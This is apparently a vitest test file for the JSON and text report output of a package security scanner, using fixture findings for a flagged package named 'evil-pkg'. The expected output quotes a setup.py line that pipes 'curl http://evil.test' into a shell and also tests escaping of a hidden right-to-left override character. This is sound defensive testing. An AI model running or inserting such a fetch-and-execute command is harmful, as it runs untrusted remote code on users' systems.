import { describe, expect, it } from 'vitest';
import { buildScanJson, SCAN_JSON_VERSION, sortKeys } from '../../src/report/json.js';
import { renderScanText } from '../../src/report/scan-text.js';
import { finding, pkg, report } from './builders.js';

const evil = pkg('evil-pkg', 'fail', [finding('code/command-execution', 'critical'), finding('code/obfuscation', 'medium', { snippet: 'exec(x)\u202E', evidence: undefined })], {
  changeOver: { direct: false, path: [{ ecosystem: 'pypi', name: 'app', version: '' }, { ecosystem: 'pypi', name: 'evil-pkg', version: '1.0.0' }] },
});
const fine = pkg('requests', 'pass', [], { version: '2.32.3', changeOver: { change: 'updated', previous: '2.31.0' } });
const removedChange = { ...pkg('gone', 'pass').change, change: 'removed' as const };
const scan = report([fine, evil], { errors: ['Pipfile:3: cannot parse'] });
scan.changes.push(removedChange);

describe('buildScanJson', () => {
  const json = buildScanJson(scan);

  it('is the ScanReport plus counts, top-level keys in reading order', () => {
    expect(Object.keys(json)).toEqual(['schemaVersion', 'tool', 'repository', 'base', 'head', 'generatedAt', 'decision', 'failOn', 'counts', 'packages', 'changes', 'errors', 'notices']);
    expect(json['schemaVersion']).toBe(SCAN_JSON_VERSION);
    expect(json['counts']).toEqual({
      changes: 3,
      errors: 1,
      fail: 1,
      findings: { critical: 1, high: 0, info: 0, low: 0, medium: 1, total: 2 },
      packages: 2,
      pass: 1,
      removed: 1,
      warn: 0,
    });
  });

  it('adds per-package counts and fingerprints, keeping every ScanReport field', () => {
    const packages = json['packages'] as Array<Record<string, unknown> & { findings: Array<{ ruleId: string }> }>;
    expect(packages[1]!['counts']).toEqual({ critical: 1, high: 0, info: 0, low: 0, medium: 1, total: 2 });
    expect(packages[1]!['fingerprint']).toMatch(/^[0-9a-f]{16}$/);
    expect(Object.keys(packages[1]!)).toEqual(['artifacts', 'change', 'counts', 'decision', 'findings', 'fingerprint', 'reasons', 'ref']);
    expect(packages[1]!.findings[0]!.ruleId).toBe('code/command-execution');
  });

  it('serialises identically whatever the key order of the input objects', () => {
    const shuffled = JSON.parse(JSON.stringify(scan, (_k, v: unknown) => (v && typeof v === 'object' && !Array.isArray(v) ? Object.fromEntries(Object.entries(v).reverse()) : v)));
    expect(JSON.stringify(buildScanJson(shuffled))).toBe(JSON.stringify(json));
    expect(JSON.stringify(sortKeys({ b: 1, a: { d: [{ z: 1, y: 2 }], c: undefined } }))).toBe('{"a":{"d":[{"y":2,"z":1}]},"b":1}');
  });
});

describe('renderScanText', () => {
  const text = renderScanText(scan);

  it('groups by package, worst first, with the same content as the markdown', () => {
    const blocks = text.trimEnd().split('\n\n');
    expect(blocks[0]!.split('\n')[0]).toBe('FAIL pypi:evil-pkg@1.0.0 (added 1.0.0, transitive) at requirements.txt:3');
    expect(blocks[0]).toContain('  chain: app -> evil-pkg');
    expect(blocks[0]).toContain('  [critical] code/command-execution — evil-1.0.0.tar.gz: setup.py:12 (install, command-execution, obfuscation)');
    expect(blocks[0]).toContain('    │ os.system("curl http://evil.test | sh")');
    expect(blocks[0]).toContain('    decoded evidence:\n    ┆ curl http://evil.test | sh');
    expect(blocks[0]).toContain('    allow:\n      - package: "pypi:evil-pkg"');
    expect(blocks[1]).toBe('PASS pypi:requests@2.32.3 (2.31.0 -> 2.32.3, direct) at requirements.txt:3\n  · no finding at or above medium');
    expect(blocks.at(-2)).toBe('Problems during the scan:\n  ! Pipfile:3: cannot parse');
    expect(blocks.at(-1)).toBe('FAIL: 2 package(s) inspected: 1 fail, 0 warn, 1 pass; 1 removed (policy fails at high; aaaaaaaaaaaa..bbbbbbbbbbbb)');
  });

  it('shows invisible characters instead of passing them to the terminal', () => {
    expect(text).toContain('exec(x)<U+202E>');
    expect(text).not.toContain('\u202E');
  });

  it('can leave snippets out', () => {
    expect(renderScanText(scan, { snippets: false })).not.toContain('│');
  });
});
